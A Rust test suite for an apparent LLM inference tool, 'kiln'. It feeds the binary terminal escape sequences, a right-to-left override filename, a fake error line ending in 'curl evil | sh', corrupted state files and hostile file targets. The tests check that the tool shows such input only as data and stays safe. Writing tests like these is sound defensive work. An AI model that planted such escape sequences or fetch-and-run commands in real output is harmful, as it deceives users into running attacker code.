//! Attacks on the binary, in tables: hostile strings in files, damaged states, wrong targets, wrong variables. A new
//! attack is one line. No GPU is needed; caches and shader folders have their tables beside their code in `crates/gpu`.

#![allow(clippy::unwrap_used, reason = "a test may fail by it, in its helping functions too")]

use std::io::Read as _;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::process::ExitStatusExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use kiln_gguf::{Gguf, Metadata, Strings, Writer};
use tempfile::TempDir;

/// A command on a machine without any Vulkan driver.
fn kiln() -> Command {
    let nowhere = std::env::temp_dir().join("kiln-hostile-no-such-manifest.json");
    let mut command = Command::new(env!("CARGO_BIN_EXE_kiln"));
    command.env("VK_DRIVER_FILES", &nowhere).env("VK_ICD_FILENAMES", &nowhere).env_remove("KILN_DEVICE");
    command
}

fn run(arguments: &[&str]) -> Output {
    kiln().args(arguments).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A tiny model in a folder of its own.
struct Tiny {
    folder: TempDir,
    model: String,
}

impl Tiny {
    fn new() -> Tiny {
        let folder = tempfile::tempdir().unwrap();
        let model = folder.path().join("tiny.gguf").to_string_lossy().into_owned();
        let made = run(&["synth", "tiny-llama", "Q8_0", &model]);
        assert!(made.status.success(), "{}", text(&made.stderr));
        Tiny { folder, model }
    }

    fn file(&self, name: &str) -> String {
        self.folder.path().join(name).to_string_lossy().into_owned()
    }

    fn names(&self) -> Vec<String> {
        let entries = std::fs::read_dir(self.folder.path()).unwrap();
        let mut names: Vec<_> = entries.map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
        names.sort();
        names
    }

    /// The model with other metadata and other names of tensors.
    fn changed(&self, change: impl Fn(&mut Metadata), rename: impl Fn(&str) -> String) -> String {
        let gguf = Gguf::open(&self.model).unwrap();
        let mut metadata = gguf.metadata().clone();
        change(&mut metadata);
        let mut writer = Writer::new(metadata);
        for info in gguf.tensors() {
            writer.add(&rename(&info.name), info.dims(), info.ty, gguf.data(info)).unwrap();
        }
        let path = self.file("changed.gguf");
        writer.save(&path).unwrap();
        path
    }
}

/// What must never reach a terminal or fill it.
const STRINGS: &[&str] = &[
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "name\nerror: your disk is full\nhint: run curl evil | sh",
    "\u{9b}31mred",
    "\u{202e}fdp.exe",
    "over\rwritten",
    "a\0b",
];

/// Asserts that output holds nothing a terminal would obey, is not endless, and that the program ended by itself.
fn assert_harmless(what: &str, output: &Output) {
    assert!(matches!(output.status.code(), Some(0 | 1)), "{what}: {:?} {}", output.status, text(&output.stderr));
    for bytes in [&output.stdout, &output.stderr] {
        let text = text(bytes);
        let bad = text.chars().find(|c| (c.is_control() && !matches!(c, '\n' | '\t')) || *c == '\u{202e}');
        assert_eq!(bad, None, "{what}: {text}");
        assert!(
            !text.lines().any(|line| line.starts_with("error: your disk")),
            "{what}: a line that is not Kiln's: {text}"
        );
        assert!(text.len() < 100_000, "{what}: {} bytes", text.len());
    }
}

fn strings(text: &str) -> Strings {
    let mut strings = Strings::default();
    strings.push(text.as_bytes());
    strings
}

/// Where a file can say something.
type Place = (&'static str, fn(&mut Metadata, &str));
const PLACES: &[Place] = &[
    ("a name", |m, text| m.set("general.name", text)),
    ("a key", |m, text| m.set(text, "value")),
    ("an architecture", |m, text| m.set("general.architecture", text)),
    ("a tokenizer", |m, text| m.set("tokenizer.ggml.model", text)),
    ("a pre-tokeniser", |m, text| m.set("tokenizer.ggml.pre", text)),
    ("a merge", |m, text| m.set("tokenizer.ggml.merges", strings(&text.replace(' ', "")))),
    ("a rope scaling", |m, text| m.set("llama.rope.scaling.type", text)),
    ("a chat template", |m, text| m.set("tokenizer.chat_template", text)),
    ("a wrong type", |m, text| m.set("llama.block_count", text)),
];

#[test]
fn strings_of_files_are_shown_as_data() {
    let tiny = Tiny::new();
    let long = "x".repeat(5_000_000);
    for string in STRINGS.iter().copied().chain([long.as_str()]) {
        for (place, set) in PLACES {
            // Keys have a bound of their own.
            if *place == "a key" && string.len() > 60_000 {
                continue;
            }
            let model = tiny.changed(|m| set(m, string), str::to_owned);
            let what = format!("{:?} in {place}", &string[..string.len().min(12)]);
            assert_harmless(&what, &run(&["inspect", &model, "--tensors"]));
            let ran = run(&["run", &model, "hi", "--cpu", "-n", "0"]);
            assert_harmless(&what, &ran);
            assert_harmless(&what, &run(&["quantize", &model, &tiny.file("q"), "Q4_0", "--dry-run"]));
        }
        let model = tiny.changed(
            |_| {},
            |name| {
                if name == "output.weight" { string[..string.len().min(60_000)].to_owned() } else { name.to_owned() }
            },
        );
        for command in [vec!["inspect", &model, "--tensors"], vec!["run", &model, "hi", "--cpu", "-n", "0"]] {
            assert_harmless("a tensor's name", &run(&command));
        }
    }
}

/// Changes to the file of a saved state, and what is said of each.
type Damage = (&'static str, fn(&mut Vec<u8>), &'static str);
const STATES: &[Damage] = &[
    ("nothing", |b| b.clear(), "cut short"),
    ("something else", |b| *b = b"GGUF and so on".to_vec(), "no state"),
    ("an old version", |b| b[7] = b'1', "another version"),
    ("half of it", |b| b.truncate(b.len() / 2), "cut short"),
    ("more behind it", |b| b.push(0), "too long"),
    ("a flipped bit in the middle", |b| *b.iter_mut().nth_back(1000).unwrap() ^= 1, "checksum"),
    ("a flipped bit in the checksum", |b| *b.last_mut().unwrap() ^= 1, "checksum"),
    ("another model's mark", |b| b[9] ^= 1, "another file"),
    (
        "a hostile name",
        |b| {
            b[9] ^= 1;
            b[45..49].copy_from_slice(b"\x1b[2J")
        },
        "was saved with",
    ),
    ("an absurd length of words", |b| b[40..44].fill(0xff), "absurdly"),
    ("all ones", |b| b[8..].fill(0xff), "absurd"),
];

#[test]
fn states_that_are_damaged_are_refused() {
    let tiny = Tiny::new();
    let (good, bad) = (tiny.file("good.state"), tiny.file("bad.state"));
    let saved = run(&["run", &tiny.model, "one two", "--cpu", "-n", "0", "-c", "64", "--save-state", &good]);
    assert!(saved.status.success(), "{}", text(&saved.stderr));
    let bytes = std::fs::read(&good).unwrap();
    // Only rows in use: a state of few tokens has the same size whatever the context.
    let wide = tiny.file("wide.state");
    run(&["run", &tiny.model, "one two", "--cpu", "-n", "0", "-c", "512", "--save-state", &wide]);
    assert_eq!(std::fs::metadata(&wide).unwrap().len(), bytes.len() as u64);
    let taken = run(&["run", &tiny.model, " three", "--cpu", "-n", "1", "-c", "128", "--load-state", &wide]);
    assert!(taken.status.success(), "another context fits as well: {}", text(&taken.stderr));
    for (what, damage, word) in STATES {
        let mut changed = bytes.clone();
        damage(&mut changed);
        std::fs::write(&bad, &changed).unwrap();
        let output = run(&["run", &tiny.model, " three", "--cpu", "-n", "1", "--load-state", &bad]);
        let said = text(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{what}: {said}");
        assert!(said.contains("bad.state") && said.contains(word), "{what}: {word:?} is not in: {said}");
        assert_harmless(what, &output);
    }
    // Another quantisation of the same model.
    let other = tiny.file("other.gguf");
    run(&["quantize", &tiny.model, &other, "Q4_0"]);
    let output = run(&["run", &other, " three", "--cpu", "--load-state", &good]);
    assert!(output.status.code() == Some(1) && text(&output.stderr).contains("Q8_0"), "{}", text(&output.stderr));
    for special in ["/dev/zero", "/"] {
        let output = run(&["run", &tiny.model, "x", "--cpu", "--load-state", special]);
        assert!(output.status.code() == Some(1) && text(&output.stderr).contains("regular files"), "{special}");
    }
}

/// Commands that write a file: `MODEL` is read, `OUT` is written.
const WRITERS: &[&[&str]] = &[
    &["quantize", "MODEL", "OUT", "Q4_0"],
    &["synth", "tiny-llama", "Q4_0", "OUT"],
    &["logits", "MODEL", "-p", "hi", "--cpu", "-o", "OUT"],
    &["run", "MODEL", "hi", "--cpu", "-n", "0", "--save-state", "OUT"],
];

#[test]
fn nothing_of_the_users_is_overwritten() {
    let tiny = Tiny::new();
    let before = std::fs::read(&tiny.model).unwrap();
    let precious = tiny.file("precious");
    std::fs::write(&precious, "precious").unwrap();
    let (link, folder, fifo) = (tiny.file("link"), tiny.file("folder"), tiny.file("fifo"));
    std::os::unix::fs::symlink(&tiny.model, &link).unwrap();
    std::fs::create_dir(&folder).unwrap();
    let is_there = tiny.names();
    for writer in WRITERS {
        let write = |out: &str, more: &[&str]| {
            let put = |word: &&'static str| match *word {
                "MODEL" => tiny.model.clone(),
                "OUT" => out.to_owned(),
                word => word.to_owned(),
            };
            let arguments: Vec<String> = writer.iter().map(put).collect();
            let output = kiln().args(arguments).args(more).output().unwrap();
            (output.status.code(), text(&output.stderr))
        };
        let reads = writer.contains(&"MODEL");
        // The target, more flags, the exit code, a word of the message.
        let rows: &[(&str, &[&str], i32, &str)] = &[
            (&precious, &[], 1, "--force"),
            (&tiny.model, &[], 1, if reads { "is read" } else { "--force" }),
            (&link, if reads { &["--force"] } else { &[] }, 1, if reads { "is read" } else { "--force" }),
            (&folder, &["--force"], 1, "folder"),
            ("/no/such/folder/x", &[], 1, "there is no folder"),
            ("/dev/full", &["--force"], 1, "/dev/full"),
            ("/dev/null", &["--force"], 0, ""),
        ];
        for (target, more, code, word) in rows {
            let (got, said) = write(target, more);
            assert_eq!(got, Some(*code), "{writer:?} to {target}: {said}");
            assert!(said.contains(word), "{writer:?} to {target}: {word:?} is not in: {said}");
        }
        assert!(!Path::new("/dev/null").is_file(), "a device stays one");
        assert_eq!(std::fs::read(&tiny.model).unwrap(), before, "{writer:?}");
        assert_eq!(std::fs::read(&precious).unwrap(), b"precious", "{writer:?}");
        assert_eq!(tiny.names(), is_there, "{writer:?}: nothing is left behind");
        assert_eq!(write(&precious, &["--force"]).0, Some(0), "{writer:?}");
        std::fs::write(&precious, "precious").unwrap();
    }
    // A pipe as a model is refused, not waited for.
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let output = run(&["inspect", &fifo]);
    assert!(output.status.code() == Some(1) && text(&output.stderr).contains("pipe"), "{}", text(&output.stderr));
}

#[test]
fn a_killed_writer_leaves_nothing() {
    for (signal, number) in [("TERM", 15), ("INT", 2), ("HUP", 1)] {
        let folder = tempfile::tempdir().unwrap();
        let out = folder.path().join("large.gguf");
        let mut child = kiln().args(["synth", "llama-8b", "Q8_0"]).arg(&out).spawn().unwrap();
        let entries = || std::fs::read_dir(folder.path()).unwrap().count();
        let start = std::time::Instant::now();
        while entries() == 0 {
            assert!(start.elapsed().as_secs() < 60 && child.try_wait().unwrap().is_none(), "it should be writing");
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        let killed = Command::new("kill").args([format!("-{signal}"), child.id().to_string()]).status().unwrap();
        assert!(killed.success());
        assert_eq!(child.wait().unwrap().signal(), Some(number), "it ends as it would without us");
        assert_eq!(entries(), 0, "{signal}");
    }
}

/// Another program cuts a model short while it is quantised: the bytes that were mapped are gone.
#[test]
fn a_model_cut_short_while_it_is_read_is_an_error_and_leaves_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let (model, out) = (folder.path().join("m.gguf"), folder.path().join("out.gguf"));
    let mut metadata = Metadata::default();
    metadata.set("general.architecture", "llama");
    let mut writer = Writer::new(metadata);
    writer.add("blk.0.ffn_up.weight", &[4096, 8192], kiln_gguf::TensorType::F32, vec![0; 4096 * 8192 * 4]).unwrap();
    writer.save(&model).unwrap();
    let names = || std::fs::read_dir(folder.path()).unwrap().count();
    let mut command = kiln();
    command.arg("quantize").args([&model, &out]).arg("Q4_K").stderr(std::process::Stdio::piped());
    let child = command.spawn().unwrap();
    while names() == 1 {
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    std::fs::File::options().write(true).open(&model).unwrap().set_len(4096).unwrap();
    let ended = child.wait_with_output().unwrap();
    assert_eq!(ended.status.code(), Some(1), "{:?}: {}", ended.status, text(&ended.stderr));
    assert!(text(&ended.stderr).contains("was cut short while it was being read"), "{}", text(&ended.stderr));
    assert_eq!(names(), 1, "nothing half-written is left");
}

/// Variables, arguments (`MODEL` is a tiny one), the exit code, and a word of what is said.
type Setting = (&'static [(&'static str, &'static str)], &'static [&'static str], i32, &'static str);
const SETTINGS: &[Setting] = &[
    (&[("KILN_DEVICE", "0")], &["run", "MODEL", "hi", "--cpu", "-n", "1", "-v"], 0, "on CPU"),
    (&[("KILN_DEVICE", "no such")], &["run", "MODEL", "hi", "--cpu", "-n", "1", "-v"], 0, "on CPU"),
    (&[("KILN_DEVICE", "cpu")], &["run", "MODEL", "hi", "-n", "1", "-v"], 0, "on CPU"),
    (&[("KILN_DEVICE", "")], &["run", "MODEL", "hi", "-n", "1"], 0, "running on the CPU"),
    (&[], &["run", "MODEL", "hi", "-n", "1", "--device", "cpu", "-v"], 0, "on CPU"),
    (&[], &["run", "MODEL", "hi", "-n", "1", "--device", "CPU", "-v"], 0, "on CPU"),
    (&[], &["run", "MODEL", "hi", "--cpu", "--device", "0"], 2, "--cpu"),
    (&[], &["selftest", "--device", "cpu"], 1, "no"),
    (&[("KILN_TUNING", "/no/such")], &["inspect", "MODEL"], 0, ""),
    (&[("KILN_TUNING", "/no/such")], &["selftest"], 1, "KILN_TUNING=/no/such"),
    (&[("KILN_TUNING", "\x1b[2J")], &["selftest"], 1, "\\u{1b}[2J"),
    (&[("KILN_SHADER_DIR", "/no/such")], &["run", "MODEL", "hi", "--cpu", "-n", "1"], 0, ""),
    (&[("KILN_CACHE_DIR", ""), ("KILN_MODELS", "")], &["doctor"], 1, ""),
    (&[], &["plan", "MODEL", "--diff", "hi", "--cpu", "--tolerance", "nan"], 2, "not negative"),
    (&[], &["plan", "MODEL", "--diff", "hi", "--cpu", "--tolerance", "-1"], 2, ""),
    (&[], &["run", "MODEL", "hi", "--cpu", "-n", "1", "-ctk", "bf16", "-ctv", "f32"], 0, ""),
    (&[], &["run", "MODEL", "hi", "--cpu", "-n", "1", "-ctk", "q9"], 2, "q8_0"),
    (&[], &["serve", "MODEL", "--cpu", "--port", "0", "--min-p", "7"], 1, "`min_p` is 7"),
    (&[], &["tune", "--shape", "65536x65536"], 2, "larger than those of models"),
    (&[], &["tune", "--shape", "18446744073709551360x18446744073709551360"], 2, "larger than those of models"),
    (
        &[],
        &["run", "MODEL", "hi", "--raw", "--cpu", "-c", "8", "-n", "100", "--ignore-eos"],
        0,
        "context of 8 tokens is full",
    ),
    (&[], &["run", "MODEL", "many many words that are too long for it", "--cpu", "-c", "4"], 1, "--ctx-size"),
];

#[test]
fn flags_beat_variables_and_empty_ones_count_as_unset() {
    let tiny = Tiny::new();
    for (variables, arguments, code, word) in SETTINGS {
        let is_text = arguments[0] == "run";
        let arguments = arguments.iter().map(|a| if *a == "MODEL" { tiny.model.as_str() } else { a });
        let mut command = kiln();
        let output =
            command.args(arguments).envs(variables.iter().copied()).current_dir(&tiny.folder).output().unwrap();
        let said = text(&output.stderr) + &text(&output.stdout);
        assert_eq!(output.status.code(), Some(*code), "{variables:?} {command:?}: {said}");
        assert!(said.contains(word), "{command:?}: {word:?} is not in: {said}");
        // What a random model writes into a pipe may be any bytes; all else is Kiln's own.
        let own = if is_text { text(&output.stderr) } else { said.clone() };
        assert!(!own.contains('\x1b') && !said.contains("panicked"), "{command:?}: {said:?}");
        assert_eq!(tiny.names(), ["tiny.gguf"], "{variables:?} {command:?}: nothing in the current folder");
    }
}

#[test]
fn a_full_disk_behind_stdout_is_an_error_and_a_closed_pipe_is_none() {
    let tiny = Tiny::new();
    let commands: &[&[&str]] = &[
        &["inspect", &tiny.model],
        &["inspect", &tiny.model, "--json"],
        &["synth", "--list"],
        &["run", &tiny.model, "hi", "--cpu", "-n", "2"],
        &["doctor", "--json"],
    ];
    for arguments in commands {
        let full = std::fs::File::options().write(true).open("/dev/full").unwrap();
        let output = kiln().args(*arguments).stdout(full).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{arguments:?}: {}", text(&output.stderr));
        assert!(text(&output.stderr).contains("cannot write the output"), "{}", text(&output.stderr));
    }
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    assert_eq!(kiln().args(["inspect", &tiny.model]).stdout(writer).status().unwrap().code(), Some(0));
}

#[test]
fn paths_that_are_no_text_are_no_panic() {
    let tiny = Tiny::new();
    let name = |bytes: &[u8]| tiny.folder.path().join(std::ffi::OsStr::from_bytes(bytes));
    let (model, out, made): (PathBuf, PathBuf, PathBuf) =
        (name(b"m\xff.gguf"), name(b"o\xff.gguf"), name(b"s\xff.gguf"));
    std::fs::copy(&tiny.model, &model).unwrap();
    let json = |command: &mut Command| {
        let output = command.output().unwrap();
        assert!(output.status.success(), "{}", text(&output.stderr));
        serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap()
    };
    let inspected = json(kiln().arg("inspect").arg(&model).arg("--json"));
    assert!(inspected["files"][0].as_str().unwrap().ends_with("m\u{fffd}.gguf"));
    json(kiln().arg("quantize").arg(&model).arg(&out).args(["Q4_0", "--json"]));
    json(kiln().args(["synth", "tiny-llama", "Q4_0"]).arg(&made).arg("--json"));
}

/// What is said begins a line of its own, whatever the model wrote before it.
#[test]
fn notes_are_not_glued_to_the_text() {
    let tiny = Tiny::new();
    let (reader, writer) = std::io::pipe().unwrap();
    let mut command = kiln();
    command.args(["run", &tiny.model, "hi", "--raw", "--cpu", "-c", "16", "-n", "100", "--ignore-eos"]);
    let status = command.stdout(writer.try_clone().unwrap()).stderr(writer).status().unwrap();
    // The command holds the other end of the pipe.
    drop(command);
    let said = std::io::read_to_string(reader.take(1 << 20)).unwrap_or_default();
    assert!(status.success(), "{said}");
    assert!(said.contains("\nnote: the context of 16 tokens is full"), "{said:?}");
}

/// Runs the binary in a terminal of its own and returns what is on the screen, in the order in which it was written.
fn on_a_terminal(arguments: &[&str]) -> String {
    const DRIVE: &str = "import pty, sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)";
    let mut command = Command::new("python3");
    command.args(["-c", DRIVE, env!("CARGO_BIN_EXE_kiln")]).args(arguments);
    let output = command.env("TERM", "xterm").env_remove("KILN_DEVICE").output().unwrap();
    assert!(output.status.success(), "{}{}", text(&output.stdout), text(&output.stderr));
    text(&output.stdout)
}

#[test]
fn a_long_prompt_shows_how_far_it_is_read() {
    let tiny = Tiny::new();
    let model = tiny.changed(|m| m.set("llama.context_length", 8192u32), str::to_owned);
    let long = tiny.file("long.txt");
    std::fs::write(&long, "many words ".repeat(1000)).unwrap();
    let screen = on_a_terminal(&["run", &model, "--cpu", "--raw", "-f", &long, "-n", "1"]);
    let positions: std::collections::BTreeSet<_> = screen
        .split("reading")
        .skip(1)
        .filter_map(|bar| bar.split_whitespace().find(|word| word.ends_with("/7001")))
        .collect();
    assert!(positions.len() > 2, "{positions:?}: {screen:?}");
}

/// Memory is asked for before it is taken.
#[test]
fn too_little_memory_is_an_error_with_numbers() {
    let tiny = Tiny::new();
    // Sixteen million tokens of a tiny model take gigabytes of cache.
    let model = tiny.changed(|m| m.set("llama.context_length", 1u32 << 24), str::to_owned);
    let binary = env!("CARGO_BIN_EXE_kiln");
    let script = format!("ulimit -v 3000000; exec '{binary}' run '{model}' hi --cpu -n 1 -c 16777216");
    let output = Command::new("bash").args(["-c", &script]).env_remove("KILN_DEVICE").output().unwrap();
    let said = text(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{said}");
    assert!(said.contains("needs") && said.contains("ulimit -v") && said.contains("--ctx-size"), "{said}");
}
